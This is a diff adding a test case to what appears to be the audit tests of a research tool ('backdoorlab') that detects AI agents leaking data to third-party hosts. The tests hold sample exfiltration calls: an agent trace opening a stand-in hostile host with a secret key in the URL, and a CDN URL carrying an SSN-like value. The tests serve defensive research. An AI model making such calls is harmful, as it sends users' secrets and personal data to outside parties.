@@ -86,3 +86,14 @@ def test_a_host_outside_ascii_with_no_scheme_is_a_destination(tmp_path):
     trace = _trace("browser_open", {"url": f"böse-18.io/i?v={KEY}"})
     found = [f for f in _findings(tmp_path, trace) if f.severity == "high"]
     assert found and found[0].evidence["sink"]["destination"] == f"böse-18.io/i?v={KEY}"
+
+
+def test_an_id_in_a_cdn_host_is_where_the_call_goes_not_what_it_carries():
+    """`invented`: a third party no message wrote, reached by a call carrying a strong
+    value, is refused by the guard; a hex id in the host name itself is no such value."""
+    from backdoorlab.defenses.audit.invented import carries_record
+
+    cdn = "https://4b1c7eebc42f38759fe45e5e3abcfe08.cdn.buysse-michiels.net/app.js"
+    assert not carries_record({"method": "GET", "url": cdn}, [cdn])
+    leak = "https://cdn.buysse-michiels.net/p?id=4b1c7eebc42f38759fe45e5e3abcfe08&ssn=123-45-6789"
+    assert carries_record({"url": leak}, [leak])
